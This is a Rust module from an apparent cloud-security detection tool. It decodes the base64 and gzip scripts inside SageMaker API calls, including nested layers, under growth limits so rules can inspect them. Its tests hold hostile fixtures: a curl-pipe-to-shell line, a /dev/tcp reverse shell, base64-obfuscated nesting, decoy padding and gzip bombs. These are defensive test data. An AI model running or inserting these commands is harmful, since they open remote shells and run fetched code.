//! Finds the code that a call hands to SageMaker to run, in the clear.
//!
//! Lifecycle configurations arrive as base64, sometimes of gzip; containers get an entry point and arguments, and
//! documents inside of parameters have commands. Decoded, rules can look into them and a responder can read them. What
//! a script itself carries as base64 is a script too.

mod places;

use std::collections::HashSet;

use super::packed::{self, beginning};
use super::redact::{FingerprintKey, redact_code, redact_words};
use crate::record::Record;
use places::{Carried, Code};

/// The name under which rules find the scripts of a record, which is also their field in a document.
pub const FIELD: &str = "sagemaker.lifecycle.script";

/// One script, with its secrets.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    /// The member of the API that says when it runs, such as `onStart` or `containerEntrypoint`.
    pub hook: String,
    pub text: String,
    /// The words of a command line that is given as a list.
    words: Vec<String>,
    /// Whether there is more of it than is kept, or damage in it.
    pub cut: bool,
    /// How many times it was packed by scripts around it.
    packing: usize,
}

/// How often a script may be packed inside another. Base64 shrinks with each unfolding.
const MAX_PACKING: usize = 8;
/// Bytes that the scripts of a record may have beyond what base64 alone makes of them: for each byte that the call
/// carries, and for a call that carries few. gzip can unfold a thousandfold, and what is searched and stored must stay
/// in proportion to the record. Base64 inside of base64 shrinks, so that all levels together are at most four times the
/// first.
const GROWTH_PER_BYTE: usize = 3;
const MIN_GROWTH_BYTES: usize = 2 * 1024;
/// How many times as much may be unfolded to look for what the filling hides.
const UNFOLDED_FOR_KEPT: usize = 16;

/// The scripts that the parameters of a SageMaker call carry, in their order, and then what is packed inside of them.
pub fn scripts(record: &Record<'_>) -> Vec<Script> {
    let mut found = Vec::new();
    if record.is_sagemaker() {
        let Carried { packed, plain } = places::carried(record.at(&["requestParameters"]));
        if packed.is_empty() && plain.is_empty() {
            return found;
        }
        found.extend(plain.into_iter().map(|(hook, code)| Script::plain(hook, code)));
        let carried: usize = packed.iter().map(|(_, text)| text.len()).sum::<usize>()
            + found.iter().map(|script| script.text.len()).sum::<usize>();
        let mut budget = Budget::of(carried);
        found.extend(packed.iter().filter_map(|(hook, text)| Script::unpacked(hook, text, &mut budget)));
        unfold(&mut found, &mut budget);
        found.retain(|script| script.cut || !script.text.trim().is_empty());
    }
    found
}

/// The bytes by which the scripts of one record may still grow.
struct Budget {
    left: usize,
}

impl Budget {
    fn of(carried: usize) -> Self {
        Self { left: MIN_GROWTH_BYTES + GROWTH_PER_BYTE * carried }
    }

    /// By how much what such a text carries may grow: in proportion to its own length, so that no other takes it away.
    fn share(&self, bytes: usize) -> usize {
        self.left.min(MIN_GROWTH_BYTES + GROWTH_PER_BYTE * bytes)
    }

    /// The unfolded text as far as the share allows, and whether that is less than all. What is no command goes first.
    fn kept(&mut self, text: String, packed_bytes: usize, share: &mut usize) -> (String, bool) {
        let free = packed_bytes * 3 / 4 + 3;
        let most = free + (*share).min(self.left);
        let is_cut = text.len() > most;
        let text = if is_cut { ends(&without_filling(&text), most) } else { text };
        let growth = text.len().saturating_sub(free);
        self.left = self.left.saturating_sub(growth);
        *share = share.saturating_sub(growth);
        (text, is_cut)
    }
}

/// A text without the lines that say nothing new: comments, repeated ones, and long runs of one character.
fn without_filling(text: &str) -> String {
    let mut known = HashSet::new();
    let mut kept = String::new();
    for line in text.lines() {
        let line = line.trim();
        let is_comment = line.starts_with('#') && !line.starts_with("#!");
        if line.is_empty() || is_comment || !known.insert(line) {
            continue;
        }
        let mut run = (None, 0);
        for character in line.chars() {
            run = if run.0 == Some(character) { (run.0, run.1 + 1) } else { (Some(character), 1) };
            if run.1 <= LONGEST_RUN {
                kept.push(character);
            }
        }
        kept.push('\n');
    }
    kept
}

const LONGEST_RUN: usize = 64;

/// The beginning and the end of a text, together at most that many bytes.
fn ends(text: &str, most: usize) -> String {
    if text.len() <= most {
        return text.to_owned();
    }
    let tail = text.ceil_char_boundary(text.len() - most / 2);
    format!("{}\n{}", beginning(text, most / 2), &text[tail..])
}

impl Script {
    /// The script as it may be shown.
    #[must_use]
    pub fn redacted(self, key: &FingerprintKey) -> Self {
        let words: Vec<&str> = self.words.iter().map(String::as_str).collect();
        if words.is_empty() {
            return Self { text: redact_code(&self.text, key), ..self };
        }
        let words = redact_words(&words, key);
        Self { text: words.join(" "), words, ..self }
    }

    /// The words of a command line that is given as a list; none of any other script.
    pub fn words(&self) -> &[String] {
        &self.words
    }

    /// A script that a stored document shows.
    #[must_use]
    pub fn stored(hook: &str, text: &str, cut: bool) -> Self {
        Self { hook: hook.to_owned(), text: text.to_owned(), words: Vec::new(), cut, packing: 0 }
    }

    fn unpacked(hook: &str, content: &str, budget: &mut Budget) -> Option<Self> {
        let mut share = budget.share(content.len());
        let unpacked = packed::unpack(content, content.len() + UNFOLDED_FOR_KEPT * share)?;
        let (text, is_cut) = budget.kept(unpacked.text, content.len(), &mut share);
        let cut = unpacked.cut || is_cut;
        Some(Self { hook: hook.to_owned(), text, words: Vec::new(), cut, packing: 0 })
    }

    fn plain(hook: String, code: Code) -> Self {
        let (text, words) = match code {
            Code::Text(text) => (text, Vec::new()),
            Code::Words(words) => (words.join(" "), words),
        };
        Self { hook, text, words, cut: false, packing: 0 }
    }
}

/// Adds what is packed inside the scripts, and inside of that.
fn unfold(found: &mut Vec<Script>, budget: &mut Budget) {
    let mut position = 0;
    while position < found.len() {
        let Script { hook, text, packing, .. } = found[position].clone();
        let mut share = budget.share(text.len());
        let mut unfolding = UNFOLDED_FOR_KEPT * share;
        for (range, unpacked) in packed::runs(&text, &mut unfolding) {
            if packing == MAX_PACKING {
                found[position].cut = true;
                break;
            }
            let (text, is_cut) = budget.kept(unpacked.text, range.len(), &mut share);
            let cut = unpacked.cut || is_cut;
            found.push(Script { hook: hook.clone(), text, words: Vec::new(), cut, packing: packing + 1 });
        }
        position += 1;
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;
    use serde_json::json;

    use super::*;

    fn gzip(text: &str) -> Vec<u8> {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(text.as_bytes()).unwrap();
        encoder.finish().unwrap()
    }

    fn scripts_of(parameters: &serde_json::Value) -> Vec<Script> {
        let raw =
            json!({"eventSource": "sagemaker.amazonaws.com", "requestParameters": parameters}).to_string();
        scripts(&Record::parse(raw.as_bytes()).unwrap())
    }

    fn hooks_and_texts(scripts: &[Script]) -> Vec<(&str, &str)> {
        scripts.iter().map(|script| (script.hook.as_str(), script.text.as_str())).collect()
    }

    #[test]
    fn scripts_are_found_and_decoded_wherever_the_api_carries_them() {
        let script = "#!/bin/bash\ncurl http://203.0.113.9/x | sh";
        let plain = STANDARD.encode(script);
        let zipped = STANDARD.encode(gzip(script));
        let cases = [
            (
                json!({"onStart": [{"content": plain}], "onCreate": [{"content": zipped}]}),
                vec![("onStart", script), ("onCreate", script)],
            ),
            (json!({"studioLifecycleConfigContent": plain}), vec![("studioLifecycleConfigContent", script)]),
            (
                json!({"appSpecification": {"containerEntrypoint": ["sh", "-c"], "containerArguments": ["id"]}}),
                vec![("containerEntrypoint", "sh -c"), ("containerArguments", "id")],
            ),
            (json!({"onStart": [{"content": "not base64!"}, {"content": ""}, {"content": null}]}), vec![]),
            (json!("text"), vec![]),
        ];
        for (parameters, expected) in cases {
            assert_eq!(hooks_and_texts(&scripts_of(&parameters)), expected, "{parameters}");
        }
    }

    #[test]
    fn what_a_script_carries_as_base64_is_a_script_too_but_not_without_end() {
        let mut texts = vec!["curl http://203.0.113.9/x | sh".to_owned()];
        for _ in 0..=MAX_PACKING {
            texts.insert(0, format!("echo {} | base64 -d | sh", STANDARD.encode(&texts[0])));
        }
        let found = scripts_of(&json!({"onStart": [{"content": STANDARD.encode(&texts[0])}]}));
        let expected: Vec<(&str, &str)> =
            texts[..=MAX_PACKING].iter().map(|text| ("onStart", text.as_str())).collect();
        assert_eq!(hooks_and_texts(&found), expected);
        let cut: Vec<bool> = found.iter().map(|script| script.cut).collect();
        assert!(cut[MAX_PACKING] && !cut[..MAX_PACKING].contains(&true), "{cut:?}");
    }

    const PAYLOAD: &str = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

    fn has_payload(scripts: &[Script]) -> bool {
        scripts.iter().any(|script| script.text.contains(PAYLOAD))
    }

    #[test]
    fn no_number_of_decoys_before_or_after_a_payload_hides_it() {
        let decoys = |count: usize| {
            (0..count).map(|number| json!({"content": STANDARD.encode(format!("echo {number}"))}))
        };
        let payload = json!({"content": STANDARD.encode(PAYLOAD)});
        for before in [0, 16, 17, 64, 1000] {
            let all: Vec<_> = decoys(before).chain([payload.clone()]).chain(decoys(1000 - before)).collect();
            let found = scripts_of(&json!({ "onStart": all }));
            assert_eq!((found.len(), has_payload(&found)), (1001, true), "{before}");
            assert!(found.iter().all(|script| !script.cut));
        }
        let packed: Vec<String> =
            (0..40).map(|number| STANDARD.encode(format!("echo decoy number {number}"))).collect();
        let script =
            format!("echo {}; echo {} | base64 -d | sh", packed.join("; echo "), STANDARD.encode(PAYLOAD));
        assert!(has_payload(&scripts_of(&json!({"onStart": [{"content": STANDARD.encode(script)}]}))));
    }

    #[test]
    fn no_filling_before_or_after_a_payload_hides_it_and_what_is_cut_says_so() {
        let words: Vec<String> = (0..5000).map(|number| format!("word{number} ")).collect();
        for filling in
            ["#".repeat(64 << 10), "# x\n".repeat(16 << 10), ":\n:;\n".repeat(10 << 10), words.concat()]
        {
            for script in [
                format!("{filling}\n{PAYLOAD}"),
                format!("{PAYLOAD}\n{filling}"),
                format!("{filling}\n{PAYLOAD}\n{filling}"),
            ] {
                // As it stands it is small enough beside the call that carries it, and is kept whole.
                let found = scripts_of(&json!({"onStart": [{"content": STANDARD.encode(&script)}]}));
                assert_eq!((found[0].text.as_str(), found[0].cut), (script.as_str(), false));
                if filling == words.concat() && script.ends_with(&filling) && script.starts_with(&filling) {
                    continue;
                }
                let zipped = STANDARD.encode(gzip(&script));
                let nested = format!("echo {zipped} | base64 -d | gunzip | sh");
                for content in [zipped, STANDARD.encode(nested)] {
                    let found = scripts_of(&json!({"onStart": [{"content": content}]}));
                    assert!(has_payload(&found), "{:?}", &script[..40]);
                    assert!(found.iter().any(|script| script.cut) || content.len() * 5 > script.len());
                }
            }
        }
    }

    #[test]
    fn what_unfolds_stays_in_proportion_to_what_the_call_carries_and_is_told_when_it_is_cut() {
        let bomb = |text: &str| STANDARD.encode(gzip(text));
        let noise: Vec<String> = (0..50_000)
            .map(|number| format!("echo this is line {number} of a script that says much the same\n"))
            .collect();
        let noise = noise.concat();
        let zeros = "x".repeat(10 << 20);
        let nested = bomb(&format!("echo {}", bomb(&format!("echo {}", bomb(&zeros)))));
        let many = format!("{0}\n", bomb(&zeros[..100_000])).repeat(50);
        for content in [bomb(&noise), bomb(&zeros), nested, STANDARD.encode(many)] {
            let found = scripts_of(&json!({"studioLifecycleConfigContent": content}));
            let bytes: usize = found.iter().map(|script| script.text.len()).sum();
            let most = 4 * (content.len() + MIN_GROWTH_BYTES + GROWTH_PER_BYTE * content.len());
            assert!(bytes <= most, "{bytes} of {}", content.len());
            assert!(found.iter().any(|script| script.cut), "{}", content.len());
        }
    }
}
